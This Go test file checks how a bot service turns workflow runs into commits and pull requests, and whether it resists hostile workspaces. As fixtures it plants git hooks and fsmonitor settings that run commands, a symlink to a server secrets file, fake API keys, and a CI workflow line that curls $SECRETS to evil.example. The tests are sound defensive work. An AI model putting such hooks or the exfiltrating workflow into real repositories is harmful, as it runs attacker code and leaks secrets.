package github

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/iterion-bot/iterion/engine"
	"github.com/iterion-bot/iterion/internal/fakegithub"
	"github.com/iterion-bot/iterion/store"
)

// changesWorld is a Service over a fake GitHub whose acme/app proposes
// the changes of workflow "fix", with a run's workspace checked out of
// the default branch's head.
type changesWorld struct {
	t    *testing.T
	db   *store.DB
	fake *fakegithub.Server
	s    *Service
	head string
	ws   string
}

const changesConfig = "workflows:\n  fix: fix.bot\n  other: other.bot\nchanges:\n  workflows: [fix]\n"

func newChangesWorld(t *testing.T, redact ...string) *changesWorld {
	t.Helper()
	fake := fakegithub.New(t, "acme", "app")
	fake.Files[".iterion.yml"] = changesConfig
	head := fake.Commit(map[string]string{"README.md": "hello\n", "docs/old.md": "old\n"})
	db, err := store.Open(t.TempDir(), store.Options{SmallMemory: true})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	ws := t.TempDir()
	s := newTestService(t, db, fake, ServiceOptions{Workspaces: ws, Redactor: engine.NewRedactor(redact...), PublicURL: "https://iterion.example.com/"})
	s.replies.wait = func(context.Context, time.Duration) error { return nil }
	return &changesWorld{t: t, db: db, fake: fake, s: s, head: head, ws: ws}
}

// run stores a finished run of workflow started at o, with its workspace
// checked out of the head, and returns it with the workspace's path.
func (w *changesWorld) run(id, workflow string, o Origin) (*engine.Run, string) {
	w.t.Helper()
	o.Repo, o.Installation, o.HeadSHA = "acme/app", fakegithub.InstallationID, w.head
	now := time.Date(2026, 3, 2, 3, 0, 0, 0, time.UTC)
	run := &engine.Run{ID: id, Workflow: workflow, Status: engine.StatusRunning, Trigger: o.Trigger("ana"), CreatedAt: now, UpdatedAt: now}
	if err := w.db.CreateRun(context.Background(), run, nil); err != nil {
		w.t.Fatal(err)
	}
	dir := filepath.Join(w.ws, id)
	if err := Checkout(context.Background(), dir, w.fake.GitURL()+"/acme/app.git", w.head, "", fakegithub.Token); err != nil {
		w.t.Fatal(err)
	}
	return run, dir
}

// finish stores run finished and returns it as stored.
func (w *changesWorld) finish(run *engine.Run) *engine.Run {
	w.t.Helper()
	ctx := context.Background()
	if err := w.db.Commit(ctx, engine.Change{RunID: run.ID, Generation: run.Generation, Status: engine.StatusFinished}); err != nil {
		w.t.Fatal(err)
	}
	got, err := w.db.Run(ctx, run.ID)
	if err != nil {
		w.t.Fatal(err)
	}
	return got
}

func write(t *testing.T, dir, name, text string) {
	t.Helper()
	path := filepath.Join(dir, filepath.FromSlash(name))
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
}

// A scheduled run's changes become a branch and a pull request that
// links the run and lists the questions answered and by whom; the
// workspace's own .git (which the run could write) is never used; meeting
// the run's end again proposes nothing more.
func TestProposeScheduledRunsChanges(t *testing.T) {
	t.Parallel()
	w := newChangesWorld(t)
	ctx := context.Background()
	w.fake.Issues[3] = &fakegithub.Issue{Title: "iterion: schedule nightly", User: fakegithub.BotLogin}
	run, dir := w.run("gh-nightly1", "fix", Origin{Schedule: "github/acme/app/nightly", Tick: "2026-03-02T03:00", Issue: 3})
	ix, err := w.db.PostQuestion(ctx, engine.PostRequest{RunID: run.ID, Generation: run.Generation, NodeID: "plan", Questions: map[string]any{engine.QuestionKey: "Bump @acme/lib to 2.0?"}})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.db.Answer(ctx, engine.AnswerRequest{RunID: run.ID, InteractionID: ix.ID, Text: "yes, <b>2.0</b>", By: "ana", Via: "github"}); err != nil {
		t.Fatal(err)
	}
	write(t, dir, "README.md", "hello, world\n")
	write(t, dir, "docs/new.md", "new\n")
	if err := os.Remove(filepath.Join(dir, "docs/old.md")); err != nil {
		t.Fatal(err)
	}
	// The run writes its workspace's .git: a hook and an fsmonitor that
	// would run on the server if git read them.
	marker := filepath.Join(t.TempDir(), "pwned")
	write(t, dir, ".git/hooks/pre-commit", "#!/bin/sh\ntouch "+marker+"\n")
	write(t, dir, ".git/config", "[core]\n\tfsmonitor = touch "+marker+"\n")
	write(t, dir, "sub/.git/HEAD", "not a repository\n")

	run = w.finish(run)
	if err := w.s.proposeChanges(ctx, run); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Fatal("git ran something the workspace's .git named")
	}
	branch := "iterion/nightly/gh-nightly1"
	sha := w.fake.Branch(branch)
	if sha == "" {
		t.Fatalf("branch %s was not pushed", branch)
	}
	if got := w.fake.Git("show", branch+":README.md"); got != "hello, world" {
		t.Errorf("README.md on the branch = %q", got)
	}
	files := w.fake.Git("diff", "--name-status", w.head, branch)
	if files != "M\tREADME.md\nA\tdocs/new.md\nD\tdocs/old.md" {
		t.Errorf("the commit's changes:\n%s", files)
	}
	if parent := w.fake.Git("rev-parse", branch+"^"); parent != w.head {
		t.Errorf("the commit's parent is %s, want the run's base %s", parent, w.head)
	}
	var pr fakegithub.PR
	for _, p := range w.fake.Pulls() {
		pr = p
	}
	if pr.HeadRef != branch || pr.BaseRef != "main" || !strings.Contains(pr.Title, "schedule nightly") {
		t.Fatalf("pull request = %+v", pr)
	}
	for _, want := range []string{
		"iterion run `gh-nightly1` of workflow `fix`, started by schedule `nightly` (tick 2026-03-02T03:00)",
		"The run: https://iterion.example.com/runs/gh-nightly1",
		"answered by `ana` via GitHub",
		"> Bump @\u200bacme/lib to 2.0?",
		"> yes, <\u200bb>2.0<\u200b/b>",
		"- `README.md`", "- `docs/new.md`", "- `docs/old.md`",
	} {
		if !strings.Contains(pr.Body, want) {
			t.Errorf("the pull request's body lacks %q:\n%s", want, pr.Body)
		}
	}
	said := w.fake.BotComments(3, "<!-- iterion:changes-gh-nightly1 -->")
	if len(said) != 1 || !strings.Contains(said[0].Body, "proposes its changes in #") {
		t.Errorf("the tracking issue was told %+v", said)
	}
	// Its end met again (a retried outbox row): nothing more.
	if err := w.s.proposeChanges(ctx, run); err != nil {
		t.Fatal(err)
	}
	if n := len(w.fake.Pulls()); n != 1 || w.fake.Branch(branch) != sha {
		t.Errorf("after a second look: %d pull requests, branch at %s (was %s)", n, w.fake.Branch(branch), sha)
	}
	// The same commit is made again from the same workspace: a push after
	// a crash that lost the record pushes nothing new.
	p := proposal{dir: dir, gitDir: dir + ".again.git", cloneURL: w.fake.GitURL() + "/acme/app.git", base: w.head, token: fakegithub.Token,
		message: commitMessage(run, Origin{Schedule: "github/acme/app/nightly", Tick: "2026-03-02T03:00"}), when: run.FinishedAt, login: fakegithub.BotLogin}
	again, _, err := p.commit(ctx)
	if err != nil || again != sha {
		t.Errorf("the commit made again is %s (%v), want %s", again, err, sha)
	}
}

// A run asked for on a pull request pushes one commit onto the PR's
// branch; one from a fork pushes nothing and says why; a run that changed
// nothing says nothing; a workflow the repository does not name is left
// alone.
func TestProposePullRequestRunsChanges(t *testing.T) {
	t.Parallel()
	w := newChangesWorld(t)
	ctx := context.Background()
	w.fake.Git("branch", "feature", w.head)
	w.fake.PRs[7] = &fakegithub.PR{HeadSHA: w.head, HeadRef: "feature"}
	run, dir := w.run("gh-pr7", "fix", Origin{PR: 7})
	run = w.finish(run)
	write(t, dir, "fix.txt", "fixed\n")
	if err := w.s.proposeChanges(ctx, run); err != nil {
		t.Fatal(err)
	}
	if got := w.fake.Git("show", "feature:fix.txt"); got != "fixed" {
		t.Errorf("fix.txt on feature = %q", got)
	}
	if said := w.fake.BotComments(7, "to `feature` with the changes of run `gh-pr7` (1 file)"); len(said) != 1 {
		t.Errorf("the PR was not told of the push: %+v", w.fake.Comments(7))
	}
	if n := len(w.fake.Pulls()); n != 1 {
		t.Errorf("%d pull requests, want the PR alone", n)
	}

	// From a fork.
	w.fake.PRs[8] = &fakegithub.PR{HeadSHA: w.head, HeadRef: "theirs", HeadRepo: "mallory/app"}
	fork, dir := w.run("gh-pr8", "fix", Origin{PR: 8})
	fork = w.finish(fork)
	write(t, dir, "fix.txt", "from a fork\n")
	if err := w.s.proposeChanges(ctx, fork); err != nil {
		t.Fatal(err)
	}
	if said := w.fake.BotComments(8, "this pull request comes from a fork"); len(said) != 1 || w.fake.Branch("theirs") != "" {
		t.Errorf("a fork's run: comments %+v, branch %q", w.fake.Comments(8), w.fake.Branch("theirs"))
	}

	// From the default branch onto another: never pushed to.
	w.fake.PRs[10] = &fakegithub.PR{HeadSHA: w.head, HeadRef: "main", BaseRef: "release"}
	onMain, dir := w.run("gh-pr10", "fix", Origin{PR: 10})
	onMain = w.finish(onMain)
	write(t, dir, "fix.txt", "straight onto main\n")
	if err := w.s.proposeChanges(ctx, onMain); err != nil {
		t.Fatal(err)
	}
	if said := w.fake.BotComments(10, "this pull request's branch is `main`, the default branch, which iterion never pushes to"); len(said) != 1 || w.fake.Branch("main") != w.head {
		t.Errorf("a PR from main: comments %+v, main at %q", w.fake.Comments(10), w.fake.Branch("main"))
	}

	// Nothing changed.
	w.fake.PRs[9] = &fakegithub.PR{HeadSHA: w.head, HeadRef: "feature"}
	idle, _ := w.run("gh-pr9", "fix", Origin{PR: 9})
	idle = w.finish(idle)
	if err := w.s.proposeChanges(ctx, idle); err != nil {
		t.Fatal(err)
	}
	if cs := w.fake.Comments(9); len(cs) != 0 {
		t.Errorf("a run that changed nothing said %+v", cs)
	}
	if posts, _ := w.db.RunPosts(ctx, idle.ID); posts[postChanges] != "none" {
		t.Errorf("its record = %q, want none", posts[postChanges])
	}

	// Not a workflow that proposes.
	other, dir := w.run("gh-other", "other", Origin{PR: 9})
	other = w.finish(other)
	write(t, dir, "x.txt", "x\n")
	if err := w.s.proposeChanges(ctx, other); err != nil {
		t.Fatal(err)
	}
	if cs := w.fake.Comments(9); len(cs) != 0 || w.fake.Git("rev-parse", "feature") == "" {
		t.Errorf("a workflow not named under changes: proposed %+v", cs)
	}
}

// What stops a proposal is said where the run is shown, and nothing is
// pushed: a secret of the server in a changed file, a branch that moved,
// a missing permission.
func TestProposeRefusals(t *testing.T) {
	t.Parallel()
	const secret = "sk-live-0123456789abcdef"
	w := newChangesWorld(t, secret)
	ctx := context.Background()
	w.fake.Git("branch", "feature", w.head)
	w.fake.PRs[7] = &fakegithub.PR{HeadSHA: w.head, HeadRef: "feature"}

	leak, dir := w.run("gh-leak", "fix", Origin{PR: 7})
	leak = w.finish(leak)
	write(t, dir, "config/keys.env", "KEY="+secret+"\n")
	write(t, dir, "token.txt", "ghs_"+strings.Repeat("A", 36)+"\n")
	write(t, dir, "ok.txt", "fine\n")
	if err := w.s.proposeChanges(ctx, leak); err != nil {
		t.Fatal(err)
	}
	said := w.fake.BotComments(7, "<!-- iterion:changes-gh-leak -->")
	if len(said) != 1 || !strings.Contains(said[0].Body, "the secrets scan found a secret of this server in `config/keys.env`, `token.txt`") || strings.Contains(said[0].Body, secret) {
		t.Errorf("the secret's refusal: %+v", said)
	}
	if got := w.fake.Branch("feature"); got != w.head {
		t.Errorf("feature moved to %s despite the secret", got)
	}

	// The branch moved on after the run started.
	late, dir := w.run("gh-late", "fix", Origin{PR: 7})
	late = w.finish(late)
	w.fake.Git("branch", "-f", "feature", w.fake.Commit(map[string]string{"more.txt": "more\n"}))
	write(t, dir, "fix.txt", "fixed\n")
	if err := w.s.proposeChanges(ctx, late); err != nil {
		t.Fatal(err)
	}
	if said := w.fake.BotComments(7, "moved on since the run started"); len(said) != 1 {
		t.Errorf("the moved branch's refusal: %+v", w.fake.Comments(7))
	}

	// No Contents: write.
	w.fake.SetPermission("contents", "read")
	denied, dir := w.run("gh-denied", "fix", Origin{Schedule: "github/acme/app/nightly", Tick: "t", Issue: 7})
	denied = w.finish(denied)
	write(t, dir, "fix.txt", "fixed\n")
	if err := w.s.proposeChanges(ctx, denied); err != nil {
		t.Fatal(err)
	}
	if said := w.fake.BotComments(7, "the App needs the *Contents: write* permission"); len(said) != 1 {
		t.Errorf("the permission's refusal: %+v", w.fake.Comments(7))
	}
	if n := len(w.fake.Pulls()); n != 1 {
		t.Errorf("%d pull requests, want PR 7 alone", n)
	}
}

// Hostile workspaces: what a run leaves to break git (a path git refuses,
// a repository without a commit) is refused once and said, never retried
// in a loop; a CI workflow of the repository is never pushed; a link to
// a file of the server that holds a secret is pushed as the link it is,
// never the file's text.
func TestProposeHostileWorkspaces(t *testing.T) {
	t.Parallel()
	const secret = "sk-live-fedcba9876543210"
	w := newChangesWorld(t, secret)
	ctx := context.Background()
	w.fake.Git("branch", "feature", w.head)
	w.fake.PRs[7] = &fakegithub.PR{HeadSHA: w.head, HeadRef: "feature"}
	refused := func(id, want string, setup func(dir string)) {
		t.Helper()
		run, dir := w.run(id, "fix", Origin{PR: 7})
		run = w.finish(run)
		write(t, dir, "fix.txt", "fixed\n")
		setup(dir)
		for range 2 { // the second meets the record of the first
			if err := w.s.proposeChanges(ctx, run); err != nil {
				t.Fatalf("%s: %v", id, err)
			}
		}
		said := w.fake.BotComments(7, "<!-- iterion:changes-"+id+" -->")
		if len(said) != 1 || !strings.Contains(said[0].Body, want) || strings.Contains(said[0].Body, w.ws) {
			t.Errorf("%s: said %+v, want once %q without the server's paths", id, said, want)
		}
		if got := w.fake.Branch("feature"); got != w.head {
			t.Errorf("%s: feature moved to %s", id, got)
		}
	}
	refused("gh-dotgit", "git refused what the run left in its workspace (git said: `error: invalid path '.GIT/config'", func(dir string) {
		write(t, dir, ".GIT/config", "[core]\n\tfsmonitor = touch /tmp/pwned\n")
	})
	empty := t.TempDir()
	if out, err := exec.Command("git", "init", "-q", "--bare", empty).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v: %s", err, out)
	}
	refused("gh-gitfile", "does not have a commit checked out", func(dir string) {
		write(t, dir, "vendor/lib/.git", "gitdir: "+empty+"\n")
	})
	refused("gh-ci", "the run changed `.github/workflows/ci.yml`, a CI workflow of the repository, which a proposal never carries", func(dir string) {
		write(t, dir, ".github/workflows/ci.yml", "on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: 'curl -d \"$SECRETS\" evil.example'}]}}\n")
	})

	// A link to a file of the server holding a secret.
	keys := filepath.Join(t.TempDir(), "keys.env")
	if err := os.WriteFile(keys, []byte("KEY="+secret+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	run, dir := w.run("gh-link", "fix", Origin{PR: 7})
	run = w.finish(run)
	if err := os.Symlink(keys, filepath.Join(dir, "keys.env")); err != nil {
		t.Fatal(err)
	}
	if err := w.s.proposeChanges(ctx, run); err != nil {
		t.Fatal(err)
	}
	if got := w.fake.Git("cat-file", "-p", "feature:keys.env"); got != keys {
		t.Errorf("keys.env on feature = %q, want the link's target %q", got, keys)
	}
	if mode := w.fake.Git("ls-tree", "feature", "keys.env"); !strings.HasPrefix(mode, "120000 ") {
		t.Errorf("keys.env pushed as %q, want a link", mode)
	}
	if grep := w.fake.Git("log", "--all", "-p", "--format=%H"); strings.Contains(grep, secret) {
		t.Error("the secret reached the repository")
	}
}

// parseRaw reads what git diff --raw -z prints (octal modes) for any
// path a run may write (newlines, tabs, spaces, non-UTF-8 bytes), and
// never panics on output it does not expect.
func FuzzParseRaw(f *testing.F) {
	f.Add("fix.txt", "100644")
	f.Add("a b\tc\nd", "120000")
	f.Add("\xff\xfe", "160000")
	f.Fuzz(func(t *testing.T, path, mode string) {
		parseRaw([]byte(mode + path)) // garbage: any result, no panic
		if path == "" || strings.ContainsRune(path, 0) || len(mode) != 6 || strings.Trim(mode, "01234567") != "" {
			return
		}
		blob := strings.Repeat("b", 40)
		raw := ":100644 " + mode + " " + strings.Repeat("a", 40) + " " + blob + " M\x00" + path + "\x00"
		got := parseRaw([]byte(raw + raw))
		if len(got) != 2 || got[0] != (rawChange{mode: mode, blob: blob, path: path}) || got[1] != got[0] {
			t.Fatalf("parseRaw(%q) = %+v", raw+raw, got)
		}
	})
}
